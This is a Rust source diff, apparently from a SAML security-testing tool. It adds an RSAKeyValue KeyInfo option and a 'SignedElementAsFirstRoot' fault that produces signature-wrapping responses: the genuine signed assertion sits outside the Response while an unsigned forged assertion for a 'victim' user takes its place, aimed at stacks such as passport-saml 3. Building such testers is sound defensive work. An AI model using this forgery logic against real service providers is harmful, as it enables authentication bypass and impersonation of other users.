@@ -588,6 +588,43 @@ fn replace_name_id(xml: &str, new_value: &str) -> String {
     )
 }
 
+/// `<ds:KeyInfo>` carrying the bare RSA public key of `cert_b64` as `ds:RSAKeyValue`
+/// (XML-DSig 4.4.2.2: Modulus and Exponent as base64 big-endian CryptoBinary, no leading zero
+/// octets). The key is taken from the signer's own certificate, so the signature verifies with
+/// exactly the key KeyInfo offers.
+fn rsa_key_value(cert_b64: &str) -> Result<String, MintError> {
+    use base64::Engine;
+    let b64 = base64::engine::general_purpose::STANDARD;
+    let der = b64
+        .decode(cert_b64)
+        .map_err(|e| XmlSecError::Library(format!("signing certificate is not base64: {e}")))?;
+    let (_, cert) = x509_parser::parse_x509_certificate(&der)
+        .map_err(|e| XmlSecError::Library(format!("signing certificate: {e}")))?;
+    let Ok(x509_parser::public_key::PublicKey::RSA(rsa)) = cert.public_key().parsed() else {
+        return Err(
+            XmlSecError::Unsupported("ds:RSAKeyValue for a non-RSA signing key".into()).into(),
+        );
+    };
+    let unsigned = |b: &[u8]| -> String {
+        let first = b.iter().position(|x| *x != 0).unwrap_or(b.len());
+        b64.encode(&b[first..])
+    };
+    Ok(format!(
+        "<ds:KeyInfo><ds:KeyValue><ds:RSAKeyValue><ds:Modulus>{}</ds:Modulus><ds:Exponent>{}</ds:Exponent></ds:RSAKeyValue></ds:KeyValue></ds:KeyInfo>",
+        unsigned(rsa.modulus),
+        unsigned(rsa.exponent)
+    ))
+}
+
+/// A Signature template (written without KeyInfo) with `key_info` as its last child, where
+/// XML-DSig puts KeyInfo (after SignatureValue).
+fn with_key_info(template: String, key_info: &str) -> String {
+    match template.rfind("</ds:Signature>") {
+        Some(end) => format!("{}{key_info}{}", &template[..end], &template[end..]),
+        None => template,
+    }
+}
+
 struct Fragment {
     xml: String,
     encrypt: bool,
@@ -630,14 +667,20 @@ pub fn mint(
     let sha1 = plan.has(|f| matches!(f, Fault::Sha1));
     let no_encryption = plan.has(|f| matches!(f, Fault::NoEncryption));
     let key = input.keys.choose(key_choice);
-    let cert_for = |k: &SigningKey| match key_info {
-        KeyInfoChoice::Signer => Some(k.cert_b64.clone()),
-        KeyInfoChoice::None => None,
+    let template_for = |id: &str, k: &SigningKey| -> Result<String, MintError> {
+        Ok(match key_info {
+            KeyInfoChoice::Signer => signature_template(id, Some(&k.cert_b64), sha1),
+            KeyInfoChoice::None => signature_template(id, None, sha1),
+            KeyInfoChoice::KeyValue => with_key_info(
+                signature_template(id, None, sha1),
+                &rsa_key_value(&k.cert_b64)?,
+            ),
+        })
     };
 
     let sign_assertion = |a: &AssertionModel, k: &SigningKey| -> Result<String, MintError> {
         let id = a.id.clone().unwrap_or_default();
-        let tpl = signature_template(&id, cert_for(k).as_deref(), sha1);
+        let tpl = template_for(&id, k)?;
         let xml = write_assertion(a, Some(&tpl));
         Ok(signer.sign_enveloped(xml, &k.signer, sha1)?)
     };
@@ -665,6 +708,8 @@ pub fn mint(
     // `samlp:Extensions` has a fixed place in the Response (after Issuer and Signature, before
     // Status); it is inserted there when the Response is written, not among the assertions.
     let mut extensions: Option<String> = None;
+    // A top-level element written before the Response (SignedElementAsFirstRoot).
+    let mut first_root: Option<String> = None;
     for (i, a) in model.assertions.iter().enumerate() {
         let s = build_assertion(a)?;
         if i == 0 {
@@ -753,6 +798,19 @@ pub fn mint(
                     xml: write_assertion(&e, None),
                     encrypt: true,
                 });
+            }
+            Fault::SignedElementAsFirstRoot { victim: v } => {
+                // The login's own signed assertion moves out in front of the Response, standing
+                // alone (it declares its own namespaces); the Response keeps an unsigned
+                // assertion for the victim in its place. Both in plaintext, like the interop
+                // probe (tests/interop/lib/probe_two_roots.py): the stacks this was published
+                // against (passport-saml 3) accept plaintext assertions.
+                let Some(first) = fragments.first_mut() else {
+                    continue;
+                };
+                let forged = write_assertion(&evil_assertion(v, "-forged")?, None);
+                first_root = Some(std::mem::replace(&mut first.xml, forged));
+                first.encrypt = false;
             }
             Fault::SignedForeignElement => {
                 // A genuinely signed IdP element, next to the unsigned assertion.
@@ -887,7 +945,7 @@ pub fn mint(
     };
     let mut response_xml = if sign_response {
         let rid = model.id.clone().unwrap_or_default();
-        let tpl = signature_template(&rid, cert_for(key).as_deref(), sha1);
+        let tpl = template_for(&rid, key)?;
         let x = place_extensions(write_response_with_signature(
             &model,
             &out_fragments,
@@ -930,6 +988,10 @@ pub fn mint(
             _ => format!("{orig_clean}{sig}"),
         };
         response_xml = write_response_with_signature(&evil_model, &[evil_frag], Some(&inner));
+    }
+
+    if let Some(signed) = first_root {
+        response_xml = format!("{signed}{response_xml}");
     }
 
     // ---- final XML faults ----
